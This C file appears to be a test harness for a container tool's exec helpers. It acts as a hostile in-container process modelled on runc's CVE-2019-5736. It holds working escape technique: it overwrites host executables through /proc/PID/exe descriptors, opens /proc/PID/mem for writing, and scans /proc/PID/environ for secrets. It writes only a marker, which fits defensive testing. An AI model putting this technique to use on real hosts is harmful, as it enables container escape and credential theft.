/*
 * Hostile container process: watches for processes that enter its PID namespace from outside
 * (ferry exec's helpers) and tries to use them against the host, as in runc's CVE-2019-5736:
 *
 * - /proc/PID/exe of a process whose executable is not a file of the container (another
 *   device than its root): the descriptor is kept, and reopened for writing through
 *   /proc/self/fd/N until that works (once no process executes the file any more); a marker is
 *   then appended to it ("WROTE dev:ino");
 * - /proc/PID/mem of such a process opened read-write ("MEM PID dev:ino" of its exe);
 * - /proc/PID/environ of any process read, looking for TOKEN ("ENVIRON PID").
 *
 * New processes get the next free pids, so the pids just above the highest one seen are polled
 * in a tight loop (a readdir of /proc now and then catches up); the processes already there are
 * probed once at the start. Runs until /tmp/stop exists, then prints "PIDS n" (new processes
 * it saw), "SEEN n" (times it opened a foreign executable) and "DONE".
 *
 * usage: proc_scanner TOKEN MARKER
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_KEPT 64

static int kept[MAX_KEPT];
static int nkept;
static int wrote[MAX_KEPT];
static dev_t root_dev;
static long seen;

static int highest_pid(void)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    int max = 1;
    if (!d)
        return max;
    while ((e = readdir(d)) != NULL) {
        int p = atoi(e->d_name);
        if (p > max)
            max = p;
    }
    closedir(d);
    return max;
}

static void keep(int fd)
{
    struct stat st;
    if (fstat(fd, &st) != 0 || st.st_dev == root_dev || nkept == MAX_KEPT) {
        close(fd);
        return;
    }
    for (int i = 0; i < nkept; i++) {
        struct stat o;
        if (fstat(kept[i], &o) == 0 && o.st_dev == st.st_dev && o.st_ino == st.st_ino) {
            close(fd);
            return;
        }
    }
    printf("KEPT %lu:%lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
    fflush(stdout);
    kept[nkept++] = fd;
}

static void try_writes(const char *marker)
{
    for (int i = 0; i < nkept; i++) {
        char path[64];
        if (wrote[i])
            continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
        int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (w < 0)
            continue;
        if (write(w, marker, strlen(marker)) > 0) {
            struct stat st;
            fstat(w, &st);
            printf("WROTE %lu:%lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
            fflush(stdout);
            wrote[i] = 1;
        }
        close(w);
    }
}

/* Reads /proc/PID/environ looking for TOKEN. */
static void check_environ(int pid, const char *token)
{
    char path[64];
    static char buf[65536];
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    int e = open(path, O_RDONLY | O_CLOEXEC);
    if (e < 0)
        return;
    ssize_t n = read(e, buf, sizeof buf - 1);
    close(e);
    if (n <= 0)
        return;
    for (ssize_t i = 0; i < n; i++)
        if (buf[i] == 0)
            buf[i] = '\n';
    buf[n] = 0;
    static int reported;
    if (strstr(buf, token) && pid != reported) {
        reported = pid;
        printf("ENVIRON %d\n", pid);
        fflush(stdout);
    }
}

/* Probes one pid: -1 when there is no process, 0 for one of the container's own programs, 1
 * while a process of another origin is (or may be) there. */
static int probe(int pid, const char *token, int self)
{
    char path[64];
    if (pid == self)
        return 0;
    check_environ(pid, token);
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        if (errno == ENOENT || errno == ESRCH)
            return -1;
        /* EACCES/EPERM: a process we may not look into (yet). */
        return 1;
    }
    struct stat st;
    if (fstat(fd, &st) != 0 || st.st_dev == root_dev) {
        close(fd);
        return 0;
    }
    seen++;
    keep(fd);
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int m = open(path, O_RDWR | O_CLOEXEC);
    static int reported;
    if (m >= 0 && pid != reported) {
        reported = pid;
        printf("MEM %d %lu:%lu\n", pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
        fflush(stdout);
        close(m);
    }
    return 1;
}

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: proc_scanner TOKEN MARKER\n");
        return 2;
    }
    struct stat st;
    if (stat("/", &st) != 0)
        return 2;
    root_dev = st.st_dev;
    int self = getpid();
    int base = highest_pid();
    /* The processes that were there before us (with --init, the container's PID 1). */
    for (int p = 1; p <= base; p++)
        probe(p, argv[1], self);
    printf("READY\n");
    fflush(stdout);
    int last = base;
    long pids = 0;
    for (unsigned long round = 0;; round++) {
        int busy = 0;
        for (int p = base + 1; p <= base + 4; p++) {
            int r = probe(p, argv[1], self);
            if (r >= 0 && p > last) {
                last = p;
                pids++;
            }
            if (r >= 0 && p > base && !busy)
                base = p - 1 + (r == 0);
            busy |= r == 1;
        }
        /* Between processes, leave the CPU to whoever is runnable (the ferry commands under
         * test among them); with one in sight, spin. */
        if (!busy)
            sched_yield();
        if (round % (busy ? 65536 : 256) == 0) {
            int h = highest_pid();
            if (!busy && h > base)
                base = h;
            try_writes(argv[2]);
            if (access("/tmp/stop", F_OK) == 0)
                break;
        }
    }
    try_writes(argv[2]);
    printf("PIDS %ld\nSEEN %ld\nDONE\n", pids, seen);
    fflush(stdout);
    return 0;
}
